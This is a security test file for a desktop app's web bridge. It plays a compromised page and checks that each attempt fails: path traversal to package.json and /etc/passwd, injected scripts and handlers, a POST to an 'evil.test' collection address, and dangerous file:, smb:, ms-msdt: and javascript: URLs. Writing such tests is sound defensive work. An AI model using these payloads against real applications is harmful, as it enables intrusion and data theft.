import { statSync } from "node:fs";
import { request } from "node:http";
import type { Page } from "@playwright/test";
import { afterAll, beforeAll, beforeEach, expect, test } from "vitest";
import type {} from "../../../src/contract/desktop-bridge.ts";
import { type DesktopApp, DesktopHome } from "./desktop-app.ts";

/** What a page that somebody got into would try; each must find a closed door. */
const home = new DesktopHome();
let app: DesktopApp;
let page: Page;
const violations: string[] = [];

beforeAll(async () => {
  app = await home.launch();
  page = await app.page();
  page.on("console", (message) => violations.push(message.text()));
  await app.hostPid();
});
beforeEach(() => void (violations.length = 0));
afterAll(async () => home.end());

test("S19: paths lead to nothing outside the app's files", async () => {
  const answers = await page.evaluate(async () => {
    const paths = [
      "/../../package.json",
      "/%2e%2e/package.json",
      "/..%2fpackage.json",
      "/..%5cpackage.json",
      "/main.mjs",
      "/host.mjs",
      "//etc/passwd.txt",
    ];
    return Promise.all(
      paths.map(async (path) =>
        fetch(path).then(
          async (answer) => answer.text(),
          () => "",
        ),
      ),
    );
  });
  for (const text of answers) expect(text).not.toMatch(/"main":|createHost|root:x/);
});

test("S19: neither inline scripts nor handlers nor foreign code run", async () => {
  await page.evaluate(() => {
    const script = document.createElement("script");
    script.textContent = "globalThis.owned = 1";
    document.body.append(script);
    const image = document.createElement("img");
    image.setAttribute("onerror", "globalThis.owned = 2");
    image.src = "x.png";
    document.body.append(image);
    const foreign = document.createElement("script");
    foreign.src = "https://evil.test/x.js";
    document.body.append(foreign);
  });
  await expect.poll(() => violations.filter((text) => /Content Security Policy/i.test(text)).length).toBeGreaterThanOrEqual(3);
  expect(await page.evaluate(() => Reflect.get(globalThis, "owned"))).toBeUndefined();
  // Playwright's own evaluate is exempt from the policy; code made from text inside the page is not.
  await page.evaluate(() => Reflect.apply(setTimeout, undefined, ["globalThis.owned = 3", 0])).catch(() => undefined);
  expect(await page.evaluate(() => Reflect.get(globalThis, "owned"))).toBeUndefined();
});

test("S19: nothing is sent to another address", async () => {
  const sent = await page.evaluate(async () =>
    fetch("https://evil.test/collect", { method: "POST", body: "x", mode: "no-cors" }).then(
      () => "sent",
      () => "blocked",
    ),
  );
  expect(sent).toBe("blocked");
});

test("S19: the window stays on the app, opens no other, and holds no foreign page", async () => {
  const before = page.url();
  await page.evaluate(() => {
    location.assign("https://evil.test/");
    const frame = document.createElement("iframe");
    frame.src = "https://evil.test/";
    document.body.append(frame);
    const view = document.createElement("webview");
    view.setAttribute("src", "https://evil.test/");
    document.body.append(view);
  });
  await page.evaluate(() => void window.open("https://example.org/docs"));
  await app.when(({ external }) => external.includes("https://example.org/docs"));
  await page.evaluate(() => {
    for (const url of ["file:///etc/passwd", "vscode://file/etc/passwd", "javascript:alert(1)", "http://evil.test/"]) window.open(url);
  });
  expect(page.url()).toBe(before);
  const view = await app.view();
  expect(view.windows).toHaveLength(1);
  expect(view.external).toEqual(["https://example.org/docs"]);
  expect(page.frames().every((frame) => !frame.url().includes("evil.test"))).toBe(true);
});

test("S20: a frame within the page has no bridge, and the page has nothing of Node or Electron", async () => {
  const found = await page.evaluate(() => {
    const frame = document.createElement("iframe");
    document.body.append(frame);
    const inner = frame.contentWindow;
    return {
      inFrame: inner !== null && "berthDesktop" in inner,
      globals: ["require", "process", "module", "Buffer", "global", "electron", "ipcRenderer"].filter((name) => name in globalThis),
      bridge: Object.keys(window.berthDesktop ?? {}).length,
    };
  });
  expect(found).toEqual({ inFrame: false, globals: [], bridge: 16 });
});

test("S20: arguments of the wrong form are refused, and the page cannot change the bridge", async () => {
  const answers = await page.evaluate(async () => {
    const bridge = window.berthDesktop;
    const tries: unknown[] = [
      { onQuit: "format" },
      { globalShortcut: "x".repeat(1000) },
      { updateFeed: "http://evil.test" },
      { unknown: 1 },
      null,
      "theme",
      [],
    ];
    const refused = await Promise.all(
      tries.map(async (value) =>
        Promise.resolve(Reflect.apply(bridge?.changeSettings ?? (() => undefined), bridge, [value])).then(
          () => "taken",
          () => "refused",
        ),
      ),
    );
    let frozen = false;
    try {
      Object.defineProperty(bridge, "openExternal", { value: () => "owned" });
    } catch {
      frozen = true;
    }
    return { refused, frozen };
  });
  expect(new Set(answers.refused)).toEqual(new Set(["refused"]));
  expect(answers.frozen).toBe(true);
});

test("S21: only pages and mails are opened outside", async () => {
  const opened = await page.evaluate(async () => {
    const urls = [
      "https://example.org/a",
      "mailto:someone@example.org",
      "file:///etc/passwd",
      "smb://host/share",
      "ms-msdt:/id",
      "vscode://file/etc/passwd",
      "javascript:alert(1)",
      " https://example.org/",
      "HTTPS://example.org/",
      "http://example.org/",
    ];
    return Promise.all(urls.map(async (url) => window.berthDesktop?.openExternal(url)));
  });
  expect(opened).toEqual([true, true, false, false, false, false, false, false, false, false]);
  expect((await app.view()).external.slice(-2)).toEqual(["https://example.org/a", "mailto:someone@example.org"]);
});

test("S21: an editor is opened by the host's own link alone", async () => {
  const id = await app.create("web");
  await app.whenPhase(id, 40);
  const before = (await app.view()).external.length;
  expect(await page.evaluate(async (environment) => window.berthDesktop?.openEditor(environment, "vscode"), id)).toBeUndefined();
  expect((await app.view()).external.slice(before)).toEqual([expect.stringMatching(/^vscode:\/\/vscode-remote\/ssh-remote\+/)]);
  expect(await page.evaluate(async (environment) => window.berthDesktop?.openEditor(environment, "vscode://evil"), id)).toContain("editor");
  const remote = async (editor: string): Promise<string | undefined> =>
    page.evaluate(async ([uuid, name]) => window.berthDesktop?.openRemoteEditor(uuid, uuid, name), [id, editor] as const);
  expect(await remote("vscode://evil")).toContain("editor");
  expect(await remote("vscode")).toContain("context");
  expect((await app.view()).external.slice(before)).toHaveLength(1);
});

test("S23: no device and no place is given away", async () => {
  const states = await page.evaluate(async () => {
    const names = ["geolocation", "camera", "microphone", "notifications", "clipboard-read", "midi"];
    return Promise.all(
      names.map(async (name) => {
        try {
          return (await navigator.permissions.query({ name: name as PermissionName })).state;
        } catch {
          return "denied";
        }
      }),
    );
  });
  expect(new Set(states)).toEqual(new Set(["denied"]));
});

test("S24: another origin may not call the API, and the socket is the person's own", async () => {
  const run = `${home.folder}/home/run`;
  expect(statSync(run).mode & 0o777).toBe(0o700);
  expect(statSync(`${run}/api.sock`).mode & 0o777).toBe(0o600);
  const { origin } = await app.view();
  if (!origin.startsWith("http")) return;
  const url = new URL(origin);
  const status = await new Promise((resolve, reject) => {
    const headers = { host: url.host, origin: "https://evil.test", "content-type": "application/json" };
    const path = "/gitpod.v1.EnvironmentService/ListEnvironments";
    request({ host: "127.0.0.1", port: url.port, method: "POST", path, headers }, (answer) => resolve(answer.resume().statusCode))
      .once("error", reject)
      .end("{}");
  });
  expect(status).toBe(403);
});
